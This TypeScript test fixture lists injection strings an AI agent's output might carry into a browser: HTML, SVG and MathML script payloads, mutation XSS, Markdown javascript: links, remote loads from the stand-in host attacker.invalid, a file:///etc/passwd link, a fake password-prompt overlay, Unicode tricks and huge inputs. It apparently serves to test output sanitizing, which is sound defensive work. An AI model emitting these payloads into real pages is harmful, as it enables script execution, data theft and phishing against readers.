/**
 * Texts by which an agent may try to act on whoever reads it in a browser: to run a script, to make the browser ask an
 * address, to leave its frame, to fake what surrounds it, to hide or to hold the reader up. Each that could run a script
 * would call `pwned()`, and each that could make a request would go to `attacker.invalid`.
 */
export interface Injection {
  readonly name: string;
  readonly text: string;
}

const AWAY = 'http://attacker.invalid';
const RUN = 'window.pwned()';

const HTML: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script from elsewhere': `<script src="${AWAY}/a.js"></script>`,
  'an image that fails': `<img src=x onerror="${RUN}">`,
  'an image from elsewhere': `<img src="${AWAY}/a.png" srcset="${AWAY}/b.png 2x">`,
  'a frame': `<iframe src="javascript:parent.pwned()"></iframe>`,
  'a frame with a document of its own': `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  'an object and an embed': `<object data="${AWAY}/a"></object><embed src="${AWAY}/b">`,
  'a form that sends itself': `<form action="${AWAY}/f"><input name=a><button autofocus onfocus="${RUN}">ok</button></form>`,
  'a base for all addresses': `<base href="${AWAY}/">`,
  'a page that refreshes away': `<meta http-equiv="refresh" content="0;url=${AWAY}/r">`,
  'a style sheet from elsewhere': `<link rel="stylesheet" href="${AWAY}/s.css"><link rel="prefetch" href="${AWAY}/p">`,
  'a detail that opens': `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'media that fail': `<video src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  'a body with a handler': `<body onload="${RUN}" onpageshow="${RUN}">`,
  'a marquee': `<marquee onstart="${RUN}">x</marquee>`,
  'a custom element that animates': `<x-a style="animation:a 1s" onanimationstart="${RUN}" tabindex=1 onfocus="${RUN}">x</x-a>`,
  'an end of everything': `</p></div></article></main></body></html><script>${RUN}</script>`,
  'an end of the page’s own data': `</script><script>${RUN}</script><!--`,
  'an open comment': `<!-- <script>${RUN}</script>`,
  'a tag that never ends': `<img src="${AWAY}/a.png" alt="`,
  'a template and a slot': `<template><script>${RUN}</script></template><slot onslotchange="${RUN}"></slot>`,
  'names that hide the page’s own': `<a id="app"></a><form id="document" name="body"><input name="fetch"></form>`,
};

const FOREIGN: Readonly<Record<string, string>> = {
  'a picture with a script': `<svg><script>${RUN}</script></svg>`,
  'a picture with a handler': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'a picture that uses another': `<svg><use href="${AWAY}/a.svg#x"/><image href="${AWAY}/b.png"/></svg>`,
  'a document within a picture': `<svg><foreignObject><iframe src="javascript:parent.pwned()"></iframe></foreignObject></svg>`,
  'a formula with a link': `<math><a xlink:href="javascript:${RUN}">x</a><maction actiontype="statusline#${AWAY}">y</maction></math>`,
  'a mutation through a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'a mutation through a picture': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'a mutation through no script': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'a mutation through a text area': `<form><textarea></form><img src=x onerror="${RUN}">`,
};

const MARKDOWN: Readonly<Record<string, string>> = {
  'a link to a script': `[click](javascript:${RUN})`,
  'a link to a script in disguise': `[click](JaVa&#x73;cript&colon;${RUN}) [click](java\tscript:${RUN})`,
  'a link to a document in itself': `[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  'a link to a program’s own scheme': `[a](vbscript:pwned) [b](file:///etc/passwd) [c](blob:null/1) [d](intent://x#Intent;end)`,
  'an address that is linked by itself': `${AWAY}/auto www.attacker.invalid <${AWAY}/angle> mallory@attacker.invalid`,
  'an image as Markdown': `![cat](${AWAY}/cat.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)`,
  'a title that ends its attribute': `[a](${AWAY} "x\\" onmouseover=\\"${RUN}") ![b](x "\\" onerror=\\"${RUN}")`,
  'an image whose text is a tag': `![<img src=x onerror=${RUN}>](x) ![" onerror="${RUN}](x)`,
  'a link by reference': `[look][1]\n\n[1]: javascript:${RUN} "title"`,
  'a fence with a tag for a language': `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  'code that ends its element': `\`</code><img src=x onerror=${RUN}>\` \n\n    </pre><script>${RUN}</script>`,
  'a heading that is the page’s own': `# Books\n\n## Inbox\n\n[Send marks](#send)\n\n- [x] interesting 10`,
  'a table with tags in its cells': `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | ![](${AWAY}/t.png) |`,
  'tags that stand for entities': `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  'a tag that begins in a list': `- <div>\n- </div></li></ul><script>${RUN}</script>`,
};

const STYLE: Readonly<Record<string, string>> = {
  'a style for the whole page': `<style>*{display:none!important}body{background:url(${AWAY}/bg)}@import "${AWAY}/i.css";</style>`,
  'a box over the whole page': `<div style="position:fixed;inset:0;z-index:99999;background:red">Your session ended: type your password</div>`,
  'a class of the page’s own': `<div class="shell header answer send" id="app">mine</div>`,
  'a style that expands': `<p style="width:expression(${RUN});behavior:url(${AWAY}/x.htc);-moz-binding:url(${AWAY}/b)">x</p>`,
  'a line that never ends': 'W'.repeat(16_000),
  'a table that is too wide': `|${'a wide column|'.repeat(20)}\n|${'-|'.repeat(20)}\n|${'unbreakable'.repeat(20)}|`,
};

const UNICODE: Readonly<Record<string, string>> = {
  'text that runs backwards': `\u202Egnp.tac\u202C and \u2066hidden\u2069 \u200Fwhere\u200E`,
  'letters that stack up': `Z${'\u0300\u0301\u0302\u0303'.repeat(400)} x ${'\u0489'.repeat(2000)}`,
  'what cannot be seen': `pay\u200B\u200Cpal\u2060 \u00AD\uFEFF\u{E0041}\u{E0042}\u3164\u115F`,
  'controls and escapes': `\u001B[2J\u001B]0;owned\u0007\u009B31m\u0000\u0008\u007F`,
  'halves of characters': `\uD800 \uDC00 \uFFFE \uFFFF \u{10FFFF} \uE000`,
  'line ends of other kinds': `one\u2028two\u2029three\rfour\u0085five\u000Bsix`,
  'entities that stand for all of these': `&#x202E;x &#0; &#27;[2J &#xD800; &#x110000; &#8203; &NotAnEntity;`,
};

const SIZE: Readonly<Record<string, string>> = {
  'a hundred thousand quotes': '> '.repeat(100_000),
  'a hundred thousand lists': '- '.repeat(100_000),
  'brackets without end': '['.repeat(60_000) + '](x)'.repeat(30_000),
  'stars and spaces that hold together': '\u00A0*a'.repeat(30_000),
  'a megabyte': 'megabyte '.repeat(116_000),
};

export const INJECTIONS: readonly Injection[] = [HTML, FOREIGN, MARKDOWN, STYLE, UNICODE, SIZE].flatMap((table) =>
  Object.entries(table).map(([name, text]) => ({ name, text })),
);
